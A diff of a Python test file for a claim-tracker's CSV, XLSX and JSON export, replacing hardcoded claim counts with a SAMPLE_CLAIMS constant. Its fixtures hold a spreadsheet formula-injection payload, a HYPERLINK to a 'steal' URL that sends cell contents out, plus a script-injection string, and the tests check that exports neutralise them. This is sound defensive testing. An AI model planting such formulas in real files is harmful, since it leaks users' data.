@@ -20,7 +20,7 @@ from claimtracker.importing.importer import import_paths
 from claimtracker.importing.sample_claims import load_claims_by_quote
 from claimtracker.storage.claims_repo import add_claim
 from claimtracker.storage.database import sqlite_url
-from tests.conftest import SEEDS
+from tests.conftest import SAMPLE_CLAIMS, SEEDS
 
 EVIL = '=HYPERLINK("http://127.0.0.1/steal?x="&A1,"click")'
 SCRIPT = "<script>alert('pwned')</script> & <b>bold</b>"
@@ -53,9 +53,9 @@ def sheet_db(sqlite_db):
 
 
 def _export(db, fmt, tmp_path) -> Path:
-    """Every claim of the sheet database (14 sample claims and 2 hostile ones) to one file."""
+    """Every claim of the sheet database (the sample claims and 2 hostile ones) to one file."""
     path = tmp_path / f"sheet.{fmt}"
-    assert export(db, ClaimFilter(), fmt, path) == 16
+    assert export(db, ClaimFilter(), fmt, path) == SAMPLE_CLAIMS + 2
     return path
 
 
@@ -64,7 +64,7 @@ def test_csv_is_utf8_with_header_accents_and_no_formulas(sheet_db, tmp_path):
     assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets then read UTF-8
     with path.open(encoding="utf-8-sig", newline="") as f:
         rows = list(csv.DictReader(f))
-    assert len(rows) == 16
+    assert len(rows) == SAMPLE_CLAIMS + 2
     evil = next(r for r in rows if "HYPERLINK" in r["claim"])
     assert evil["claim"] == "'" + EVIL and evil["tags"] == "'=cmd" and evil["note"] == "'\tnote"
     assert evil["speaker"] == "Élodie Ça"
@@ -84,7 +84,7 @@ def test_xlsx_has_real_dates_a_frozen_header_and_inert_text(sheet_db, tmp_path):
     letter = openpyxl.utils.get_column_letter(claim_column)
     assert sheet.column_dimensions[letter].width > 50  # the claim column is wide
     rows = list(sheet.iter_rows(min_row=2, values_only=True))
-    assert len(rows) == 16
+    assert len(rows) == SAMPLE_CLAIMS + 2
     evil_row = next(
         i
         for i, r in enumerate(sheet.iter_rows(min_row=2), 2)
@@ -164,7 +164,7 @@ def test_json_has_every_field_and_w3c_annotations_and_round_trips(sheet_db, tmp_
     capsys.readouterr()
     assert main(["--db", empty, "claims", "--json"]) == 0
     assert (
-        len(json.loads(capsys.readouterr().out)) == len(data["claims"]) == 16
+        len(json.loads(capsys.readouterr().out)) == len(data["claims"]) == SAMPLE_CLAIMS + 2
     )  # neither claims nor articles
 
 
@@ -179,7 +179,7 @@ def test_import_claims_reanchors_moved_spans_and_names_what_it_cannot_place(shee
     err = capsys.readouterr().err
     assert "re-anchored claim 1" in err
     assert "claim 2 (id" in err and "does not hold its quote" in err
-    assert "15 claims" in err and "1 left out" in err
+    assert f"{SAMPLE_CLAIMS + 1} claims" in err and "1 left out" in err
 
     (tmp_path / "nonsense.json").write_text("{not json", encoding="utf-8")
     assert (
@@ -258,7 +258,9 @@ def test_libreoffice_reads_the_xlsx_cells(sheet_db, tmp_path):
     )
     with (tmp_path / "sheet.csv").open(encoding="utf-8", errors="replace", newline="") as f:
         rows = list(csv.reader(f))
-    assert rows[0][0] == "claim_id" and len(rows) == 17
+    assert (
+        rows[0][0] == "claim_id" and len(rows) == SAMPLE_CLAIMS + 3
+    )  # the header, the sample and 2 hostile claims
     assert any(EVIL in row for row in rows)  # shown as text, not computed
 
 
